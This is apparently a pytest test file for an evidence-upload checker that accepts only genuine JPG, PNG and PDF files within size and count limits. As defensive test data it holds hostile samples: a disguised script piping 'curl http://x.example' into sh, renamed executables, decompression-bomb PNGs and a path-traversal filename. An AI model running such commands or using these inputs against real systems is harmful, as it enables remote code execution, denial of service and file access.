"""DISPUTE-2: evidence files are JPG, PNG or PDF by content, at most 5 MB each, 5 per appeal."""

from __future__ import annotations

import hashlib
import io
import struct
import zlib

import pytest
from PIL import Image

from sellerdesk.errors import InvalidInput, RuleViolation
from sellerdesk.evidence import EvidenceLimits, inspect_batch, inspect_file

MB = 1024 * 1024


def refusal(data: bytes, name: str, limits: EvidenceLimits) -> RuleViolation:
    with pytest.raises(RuleViolation) as caught:
        inspect_file(data, name, limits)
    error = caught.value
    assert error.rule == "DISPUTE-2"
    assert error.next_step
    assert error.facts["filename"] == name
    return error


def test_DISPUTE_2_valid_jpeg_accepted_with_its_facts(small_jpeg, limits):
    inspected = inspect_file(small_jpeg, "photo.jpg", limits)

    assert inspected.kind == "jpg"
    assert inspected.media_type == "image/jpeg"
    assert (inspected.width, inspected.height, inspected.pages) == (640, 480, 1)
    assert inspected.size == len(small_jpeg)
    assert inspected.sha256 == hashlib.sha256(small_jpeg).hexdigest()
    assert inspected.filename == "photo.jpg"


def test_DISPUTE_2_valid_png_accepted(small_png, limits):
    inspected = inspect_file(small_png, "screenshot.png", limits)

    assert (inspected.kind, inspected.media_type) == ("png", "image/png")
    assert (inspected.width, inspected.height) == (300, 200)


def test_DISPUTE_2_one_megabyte_jpeg_accepted(jpeg_1mb, limits):
    inspected = inspect_file(jpeg_1mb, "IMG_0001.JPG", limits)

    assert inspected.kind == "jpg"
    assert (inspected.width, inspected.height) == (1200, 900)


def test_DISPUTE_2_multipage_pdf_accepted_with_page_count(multipage_pdf, limits):
    inspected = inspect_file(multipage_pdf, "tracking.pdf", limits)

    assert (inspected.kind, inspected.media_type) == ("pdf", "application/pdf")
    assert inspected.pages == 3
    assert inspected.width is None and inspected.height is None


def test_DISPUTE_2_K_15_pdf_named_png_accepted_as_pdf(multipage_pdf, limits):
    inspected = inspect_file(multipage_pdf, "letter.png", limits)

    assert inspected.kind == "pdf"
    assert inspected.filename == "letter.png"


def test_DISPUTE_2_jpeg_named_pdf_accepted_as_jpeg(small_jpeg, limits):
    assert inspect_file(small_jpeg, "scan.pdf", limits).kind == "jpg"


def test_DISPUTE_2_renamed_elf_executable_refused(limits):
    elf = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + struct.pack("<HH", 2, 0x3E) + b"\x00" * 200

    error = refusal(elf, "photo.jpg", limits)

    assert error.facts["reason"] == "executable_or_archive"
    assert error.facts["detected"] == "elf"
    assert "Linux program" in error.message


def test_DISPUTE_2_renamed_windows_executable_refused(limits):
    pe = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 50 + b"PE\x00\x00"

    error = refusal(pe, "delivery.pdf", limits)

    assert error.facts["detected"] == "exe"
    assert "Windows program" in error.message


def test_DISPUTE_2_renamed_zip_archive_refused(limits):
    archive = b"PK\x03\x04\x14\x00\x00\x00\x08\x00" + b"\x00" * 100

    error = refusal(archive, "label.png", limits)

    assert error.facts["reason"] == "executable_or_archive"
    assert error.facts["detected"] == "zip"


def test_DISPUTE_2_renamed_script_refused(limits):
    error = refusal(b"#!/bin/sh\ncurl http://x.example | sh\n", "proof.png", limits)

    assert error.facts["detected"] == "script"


def test_DISPUTE_2_other_formats_refused_whatever_the_name(limits):
    out = io.BytesIO()
    Image.new("RGB", (10, 10)).save(out, "GIF")

    error = refusal(out.getvalue(), "photo.jpg", limits)

    assert error.facts["reason"] == "format_not_accepted"
    assert "image/gif" in error.message


def test_DISPUTE_2_unrecognised_content_refused(limits):
    error = refusal(b"just some text that claims to be a PDF", "doc.pdf", limits)

    assert error.facts["reason"] == "format_not_accepted"


def test_DISPUTE_2_truncated_jpeg_refused(jpeg_1mb, limits):
    error = refusal(jpeg_1mb[: len(jpeg_1mb) // 2], "cut.jpg", limits)

    assert error.facts["reason"] == "corrupt_image"


def test_DISPUTE_2_png_with_broken_checksum_refused(small_png, limits):
    broken = bytearray(small_png)
    idat = small_png.index(b"IDAT")
    broken[idat + 10] ^= 0xFF

    error = refusal(bytes(broken), "broken.png", limits)

    assert error.facts["reason"] == "corrupt_image"


def test_DISPUTE_2_decompression_bomb_png_refused(make, limits):
    # 48 megapixels of one colour compress to a few kilobytes.
    bomb = make.image_bytes(Image.new("1", (8000, 6000)), "png")
    assert len(bomb) < 20_000

    error = refusal(bomb, "bomb.png", limits)

    assert error.facts["reason"] == "image_too_large"
    assert (error.facts["width"], error.facts["height"]) == (8000, 6000)


def test_DISPUTE_2_png_declaring_billions_of_pixels_refused_before_decoding(limits):
    def chunk(kind: bytes, body: bytes) -> bytes:
        return (
            struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
        )

    header = struct.pack(">IIBBBBB", 65_535, 65_535, 8, 2, 0, 0, 0)
    bomb = (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00" * 10_000))
        + chunk(b"IEND", b"")
    )

    error = refusal(bomb, "tiny.png", limits)

    assert error.facts["reason"] == "image_too_large"


def test_DISPUTE_2_empty_file_refused(limits):
    assert refusal(b"", "empty.jpg", limits).facts["reason"] == "empty_file"


def test_DISPUTE_2_K_15_exactly_5_mb_accepted(make, limits):
    data = make.png_with_padding(5 * MB)

    assert inspect_file(data, "big.png", limits).size == 5 * 1024 * 1024


def test_DISPUTE_2_K_15_one_byte_over_5_mb_refused(make, limits):
    error = refusal(make.png_with_padding(5 * MB + 1), "big.png", limits)

    assert error.facts["reason"] == "file_too_large"
    assert error.facts["max_file_bytes"] == 5 * 1024 * 1024
    assert "5.0 MB" in error.message


def test_DISPUTE_2_policy_may_narrow_formats(small_jpeg):
    error = refusal(small_jpeg, "photo.jpg", EvidenceLimits(formats=("pdf",)))

    assert error.facts["reason"] == "format_not_accepted"
    assert "only PDF" in error.message


def test_DISPUTE_2_policy_cannot_ask_for_formats_we_cannot_prove():
    with pytest.raises(InvalidInput):
        EvidenceLimits(formats=("jpg", "gif"))


def test_DISPUTE_2_file_name_loses_directories_and_control_characters(small_jpeg, limits):
    inspected = inspect_file(small_jpeg, "..\\..\\etc/pass\x00wd\n.jpg", limits)

    assert inspected.filename == "passwd.jpg"


# --- the batch: at most 5 files per appeal, all or nothing -----------------------------------


def test_DISPUTE_2_five_files_accepted_together(small_jpeg, small_png, multipage_pdf, limits):
    files = [
        ("a.jpg", small_jpeg),
        ("b.png", small_png),
        ("c.pdf", multipage_pdf),
        ("d.jpg", small_jpeg),
        ("e.png", small_png),
    ]

    inspected = inspect_batch(files, limits)

    assert [f.kind for f in inspected] == ["jpg", "png", "pdf", "jpg", "png"]


def test_DISPUTE_2_sixth_file_refused(small_jpeg, limits):
    files = [(f"{n}.jpg", small_jpeg) for n in range(6)]

    with pytest.raises(RuleViolation) as caught:
        inspect_batch(files, limits)

    assert caught.value.rule == "DISPUTE-2"
    assert caught.value.facts["reason"] == "too_many_files"
    assert caught.value.facts["max_files"] == 5


def test_DISPUTE_2_sixth_file_refused_counting_files_already_attached(small_jpeg, limits):
    with pytest.raises(RuleViolation) as caught:
        inspect_batch([("5.jpg", small_jpeg), ("6.jpg", small_jpeg)], limits, already_attached=4)

    assert caught.value.facts["already_attached"] == 4
    assert "Choose the 1 most convincing" in (caught.value.next_step or "")


def test_DISPUTE_2_batch_with_one_bad_file_accepts_none(small_jpeg, limits):
    files = [("good.jpg", small_jpeg), ("virus.jpg", b"MZ" + b"\x00" * 300)]

    with pytest.raises(RuleViolation) as caught:
        inspect_batch(files, limits)

    assert caught.value.facts["filename"] == "virus.jpg"


def test_DISPUTE_2_batch_reports_every_bad_file(small_jpeg, limits):
    files = [("empty.png", b""), ("good.jpg", small_jpeg), ("virus.jpg", b"MZ" + b"\x00" * 300)]

    with pytest.raises(RuleViolation) as caught:
        inspect_batch(files, limits)

    refused = caught.value.facts["refused"]
    assert [r["filename"] for r in refused] == ["empty.png", "virus.jpg"]
    assert caught.value.message.startswith("2 of 3 files were refused")
